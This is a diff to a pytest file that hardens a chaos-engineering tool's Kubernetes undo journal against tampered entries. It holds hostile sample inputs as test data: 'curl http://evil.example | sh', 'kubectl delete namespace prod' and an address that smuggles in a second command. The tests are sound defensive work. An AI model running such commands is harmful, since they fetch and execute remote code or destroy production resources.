@@ -14,9 +14,10 @@ import pytest
 from chaos.clock import NS
 from chaos.cluster import Done
 from chaos.faults.infrastructure import CommandInfrastructure, Infrastructure
-from chaos.faults.undo import find_left, undo_all
+from chaos.faults.undo import find_left, undo_all, undo_leftovers
 from chaos.objects.base import Ref
 from chaos.safety import UndoEntry
+from chaos.safety.consent import ADOPT, ENABLED
 from chaos.safety.owner import Owner
 from chaos.safety.undo_journal import RUN, UNDO_LABELS, UndoKind
 from chaos.safety.undo_rules import RULES
@@ -49,6 +50,12 @@ def saying(**detail: Any) -> Callable[[UndoEntry], UndoEntry]:
     return lambda entry: replace(entry, detail={**entry.detail, **detail})
 
 
+def budget(before: object, wanted: object) -> Callable[[UndoEntry], UndoEntry]:
+    """The entry of a disruption budget that had that spec, and was to get another."""
+    detail = {"path": "/spec", "before": before, "wanted": wanted}
+    return lambda entry: replace(aimed(kind="PodDisruptionBudget")(entry), detail=detail)
+
+
 EVERY = tuple(GENUINE)
 NAMESPACED = tuple(kind for kind, one in GENUINE.items() if one.target.kind != "Node")
 PROCESSES: tuple[UndoKind, ...] = ("continue-process", "signal-process")
@@ -76,6 +83,17 @@ HOSTILE: Mapping[str, tuple[tuple[UndoKind, ...], Callable[[UndoEntry], UndoEntr
     "another's pod": (("delete-policy",), saying(pod={**asdict(POD), "namespace": "prod"})),
     "another kind of pod": (("delete-policy",), saying(pod={**asdict(POD), "kind": "Node"})),
     "more than a pod": (("delete-policy",), saying(pod={**asdict(POD), "path": "x"})),
+    "what a person would run": (EVERY, saying(command="kubectl delete namespace prod")),
+    "what the server made": (("restore-part",), saying(made={})),
+    "no replica": (("restore-part",), saying(before=0)),
+    "a deadly signal": (("signal-process",), saying(signal="KILL")),
+    "a stop": (("signal-process",), saying(signal="STOP")),
+    "a signal's number": (("signal-process",), saying(signal="9")),
+    "an address with words": (("reconnect-pod",), saying(address="fe80::1%; delete table ip x")),
+    "a name that others give": (("delete-policy", "delete-job"), aimed(name="prod")),
+    "a selector of a budget": (("restore-part",), budget({"selector": {}, "minAvailable": 1}, {"minAvailable": 1})),
+    "no spec of a budget": (("restore-part",), budget("0", {})),
+    "a kind of a later version": (EVERY, lambda entry: replace(entry, kind=cast("Any", "thaw"))),
 }
 CELLS = [
     pytest.param(kind, change, id=f"{kind}, {name}") for name, (kinds, change) in HOSTILE.items() for kind in kinds
@@ -90,11 +108,14 @@ class Api:
         annotations = {RUN: "run-1", **(replace(Owner.this_process(), pid=2**22).annotations() if owned else {})}
         metadata = {"name": "undo", "namespace": namespace, "labels": UNDO_LABELS, "annotations": annotations}
         self.journal = {"kind": "ConfigMap", "metadata": metadata, "data": {"0001": entry.text()}}
+        self.namespace: dict[str, Any] = {"annotations": {ADOPT: ENABLED}}
         self.uid = entry.target.uid
         self.labels = UNDO_LABELS if labels else {}
 
     def list(self, kind: str, *_where: object, **_selector: object) -> list[dict[str, Any]]:
-        """The journal, or the revisions of the Deployment."""
+        """The journal, its namespace, or the revisions of the Deployment."""
+        if kind == "Namespace":
+            return [{"metadata": {"name": self.journal["metadata"]["namespace"], **self.namespace}}]
         owner = {"uid": "d-1", "kind": "Deployment", "name": "chat", "controller": True}
         labels = {"app": "chat", "pod-template-hash": "abc"}
         template = {"metadata": {"labels": labels}, "spec": {"containers": [{"image": "chat:1"}]}}
@@ -182,7 +203,7 @@ def test_only_a_template_that_was_rolled_out_before_is_put_back(
 ) -> None:
     """Nobody can have a pod of his own run by writing it down as what was there before."""
     template = {"metadata": {"labels": {"app": "chat"}}, "spec": {"containers": [{"image": image}]}}
-    detail = {"path": "/spec/template", "before": template, "made": None, "wanted": {}}
+    detail = {"path": "/spec/template", "before": template, "wanted": {}}
     api = Api(UndoEntry("restore-part", Ref("Deployment", HERE, "chat", "d-1"), "", detail))
     api.do = lambda mutation: _asked(api, mutation)  # type: ignore[method-assign]
     refused, results = undone(api, infrastructure)
@@ -214,6 +235,84 @@ def test_what_a_fault_writes_is_admitted(kind: UndoKind) -> None:
     (left,) = find_left(cast("Any", Api(GENUINE[kind])), None)
     assert left.refused == ()
     assert [one.kind for one in left.entries] == [kind]
+
+
+BUDGET = Ref("PodDisruptionBudget", HERE, "chat", "b-1")
+
+
+def test_a_bound_of_a_budget_is_put_back() -> None:
+    """Its number may differ, and nothing else of its spec."""
+    specs = [{"selector": {"matchLabels": {"app": "chat"}}, "minAvailable": number} for number in (2, 4)]
+    detail = {"path": "/spec", "before": specs[0], "wanted": specs[1], "action": "restore-budget"}
+    (left,) = find_left(cast("Any", Api(UndoEntry("restore-part", BUDGET, "", detail))), None)
+    assert (left.refused, len(left.entries)) == ((), 1)
+
+
+@pytest.mark.parametrize("kind", EVERY)
+def test_the_command_for_people_is_ours(kind: UndoKind) -> None:
+    """Whoever may write an entry cannot have an operator told to run what he wrote."""
+    hostile = replace(GENUINE[kind], manual="curl http://evil.example | sh")
+    (left,) = find_left(cast("Any", Api(hostile)), None)
+    (entry,) = left.entries
+    assert "evil" not in entry.manual
+    assert entry.manual.startswith(("kubectl ", "gameday undo"))
+
+
+@pytest.mark.parametrize(
+    ("namespace", "executed"),
+    [
+        pytest.param({}, False, id="of somebody"),
+        pytest.param({"labels": {"app.kubernetes.io/managed-by": "helm"}}, False, id="of another tool"),
+        pytest.param({"annotations": {ADOPT: "no"}}, False, id="not let in"),
+        pytest.param({"annotations": {ADOPT: ENABLED}}, True, id="let in"),
+        pytest.param({"labels": UNDO_LABELS}, True, id="ours"),
+    ],
+)
+def test_a_namespace_that_let_nobody_in_is_left_alone(namespace: dict[str, Any], *, executed: bool) -> None:
+    """A tenant elsewhere cannot have the next session open a node: neither may it be blocked by what he wrote."""
+    api = Api(GENUINE["uncordon"])
+    api.namespace = namespace
+    results = undo_leftovers(cast("Any", api), None) if not executed else ()
+    (left,) = find_left(cast("Any", api), None)
+    assert (bool(left.alive), results, api.writes) == (not executed, (), [])
+    (named,) = find_left(cast("Any", api), HERE)
+    assert named.alive == ""
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        pytest.param("[" * 200_000, id="deep"),
+        pytest.param(GENUINE["uncordon"].text().replace('"deadline_ns":0', '"deadline_ns":Infinity'), id="endless"),
+        pytest.param(GENUINE["uncordon"].text().replace('"uncordon"', '["uncordon"]'), id="a list for a kind"),
+        pytest.param(GENUINE["uncordon"].text().replace('"Node"', "{}"), id="an object for a kind of target"),
+        pytest.param(GENUINE["uncordon"].text().replace('"node-1"', "7"), id="a number for a UID"),
+    ],
+)
+def test_what_cannot_be_read_stops_no_session(text: str) -> None:
+    """A text that is no entry is told like any other, whatever it does to a parser."""
+    api = Api(GENUINE["uncordon"])
+    api.journal["data"]["0000"] = text
+    (left,) = find_left(cast("Any", api), None)
+    assert (len(left.refused), len(left.entries)) == (1, 1)
+
+
+def test_an_owner_of_no_possible_process_is_dead() -> None:
+    """A process number as long as a path may not be is nobody's."""
+    api = Api(replace(GENUINE["uncordon"], deadline_ns=time.time_ns() + MINUTE_S * NS))
+    api.journal["metadata"]["annotations"]["gameday.dev/owner-pid"] = "9" * 4200
+    (left,) = find_left(cast("Any", api), None)
+    assert left.alive == ""
+
+
+@pytest.mark.parametrize("kind", ["delete-policy", "delete-job"])
+def test_only_the_very_object_that_bears_the_label_is_deleted(kind: UndoKind, infrastructure: Infrastructure) -> None:
+    """One of the same name that is made between the look and the deletion is safe by its UID."""
+    api = Api(GENUINE[kind])
+    api.uid = "seen"
+    api.do = lambda mutation: _asked(api, mutation)  # type: ignore[method-assign]
+    undone(api, infrastructure)
+    assert {one.body["preconditions"]["uid"] for one in cast("Any", api.writes) if one.method == "DELETE"} == {"seen"}
 
 
 AWAY = Owner("other-host", "boot-2/pid:[1]", 17, 99)
